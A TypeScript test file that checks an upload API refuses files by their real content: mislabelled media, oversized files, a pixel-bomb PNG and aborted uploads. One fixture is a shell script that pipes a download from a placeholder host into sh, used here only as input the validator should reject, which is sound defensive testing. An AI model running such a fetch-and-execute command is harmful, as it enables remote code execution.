import { request } from 'node:http';
import { PNG_BYTES, newItem } from '../testing/content-factory.js';
import { mp4File, PDF_HEADER, pngDeclaring, wavFile } from '../testing/media-files.js';
import { objectsUnder, waitFor } from '../testing/bucket.js';
import { createTestApp, type TestApp, type TestUser } from '../testing/test-app.js';

describe('uploads are checked by their content', () => {
  let t: TestApp;
  let editor: TestUser;

  beforeAll(async () => {
    t = await createTestApp({ UPLOAD_MAX_MB_INFOGRAPHIC: '1' });
    editor = await t.newUser(['editor']);
  });
  afterAll(() => t?.close());

  const upload = (itemId: string, name: string, type: string, data: Uint8Array) =>
    t.http(editor.token).upload(`/api/content-items/${itemId}/versions`, { name, type, data });

  async function assertNothingStored(itemId: string) {
    const rows = (await t.dataSource.query('select count(*)::int as n from content_version where item_id = $1', [itemId])) as Array<{ n: number }>;
    expect(rows[0].n).toBe(0);
    expect(await objectsUnder(t, `items/${itemId}/`)).toEqual([]);
  }

  it('refuses PNG bytes named .mp4 on a video item with 415 naming the detected and allowed types', async () => {
    const item = await newItem(t, editor, { format: 'video' });
    const res = await upload(item.id, 'episode.mp4', 'video/mp4', PNG_BYTES);
    expect(res.status).toBe(415);
    expect(res.body).toMatchObject({ error: 'Unsupported Media Type', details: { detected: 'png', allowed: ['mp4', 'webm', 'mov'] } });
    expect(res.body.message).toContain('a png file');
    await assertNothingStored(item.id);
  });

  it('refuses a script named .png with 415', async () => {
    const item = await newItem(t, editor);
    const res = await upload(item.id, 'infographie.png', 'image/png', Buffer.from('#!/bin/sh\ncurl https://example.invalid | sh\n'));
    expect(res.status).toBe(415);
    expect(res.body.details).toMatchObject({ detected: null, allowed: ['png', 'jpg', 'webp', 'pdf'] });
    await assertNothingStored(item.id);
  });

  it('refuses a file above the format limit with 413 naming the limit', async () => {
    const item = await newItem(t, editor);
    const res = await upload(item.id, 'poster.pdf', 'application/pdf', Buffer.concat([PDF_HEADER, Buffer.alloc(1536 * 1024, 0x20)]));
    expect(res.status).toBe(413);
    expect(res.body.message).toContain('1 MB');
    expect(res.body.details).toMatchObject({ limit: 1024 * 1024 });
    await assertNothingStored(item.id);
  });

  it('refuses a PNG declaring 100 000 × 100 000 pixels before decoding it', async () => {
    const item = await newItem(t, editor);
    const res = await upload(item.id, 'bomb.png', 'image/png', pngDeclaring(100_000, 100_000));
    expect(res.status).toBe(422);
    expect(res.body.message).toMatch(/declares 100000×100000 pixels .* more than the 100 MP allowed/);
    await assertNothingStored(item.id);
  });

  it('refuses a 95-second episode naming 95 s and 90 s', async () => {
    const item = await newItem(t, editor, { format: 'video' });
    const res = await upload(item.id, 'episode.mp4', 'video/mp4', mp4File(95));
    expect(res.status).toBe(422);
    expect(res.body.message).toBe('An episode may last at most 90 s; this file lasts 95 s');
    expect(res.body.details).toEqual({ measuredSeconds: 95, maxSeconds: 90 });
    await assertNothingStored(item.id);
  });

  it('records a 60-second episode with its measured duration, resolution and detected type', async () => {
    const item = await newItem(t, editor, { format: 'series' });
    const res = await upload(item.id, 'episode-1.mov', 'application/octet-stream', mp4File(60, { brand: 'qt  ', width: 1920, height: 1080 }));
    expect(res.status).toBe(201);
    expect(res.body.asset.mimeType).toBe('video/quicktime');
    expect(res.body.media).toEqual({ durationSeconds: 60, width: 1920, height: 1080 });
    expect(res.body.renditions.status).toBe('pending');
  });

  it('measures a podcast and accepts it under the podcast ceiling', async () => {
    const item = await newItem(t, editor, { format: 'podcast' });
    const res = await upload(item.id, 'episode.wav', 'audio/wav', wavFile(95));
    expect(res.status).toBe(201);
    expect(res.body.asset.mimeType).toBe('audio/wav');
    expect(res.body.media).toEqual({ durationSeconds: 95, width: null, height: null });
  });

  it('leaves no version and no object when the client aborts halfway', async () => {
    const item = await newItem(t, editor);
    await abortedUpload(t, editor.token, `/api/content-items/${item.id}/versions`, Buffer.concat([PDF_HEADER, Buffer.alloc(512 * 1024, 0x20)]));
    // The API notices the abort asynchronously; it is done once its temporary file is gone.
    await waitFor(async () => (await uploadTempFiles(t.config.uploadTempDir)).length === 0);
    await assertNothingStored(item.id);
  });
});

/** The app's own spool folder (each test app has one), so other test files' uploads cannot interfere. */
async function uploadTempFiles(dir: string): Promise<string[]> {
  const { promises: fs } = await import('node:fs');
  return (await fs.readdir(dir)).filter((n) => n.startsWith('vetted-upload-'));
}

/** Sends the multipart head and half the file, then drops the connection. */
function abortedUpload(t: TestApp, token: string, path: string, data: Buffer): Promise<void> {
  const boundary = 'vetted-abort-boundary';
  const head = Buffer.from(`--${boundary}\r\ncontent-disposition: form-data; name="file"; filename="poster.pdf"\r\ncontent-type: application/pdf\r\n\r\n`);
  const tail = Buffer.from(`\r\n--${boundary}--\r\n`);
  const url = new URL(path, t.baseUrl);
  return new Promise((resolve) => {
    const req = request(url, {
      method: 'POST',
      headers: { authorization: `Bearer ${token}`, 'content-type': `multipart/form-data; boundary=${boundary}`, 'content-length': head.length + data.length + tail.length },
    });
    req.on('error', () => resolve());
    req.on('response', () => resolve());
    req.write(head);
    req.write(data.subarray(0, data.length / 2), () => setImmediate(() => (req.destroy(), resolve())));
  });
}
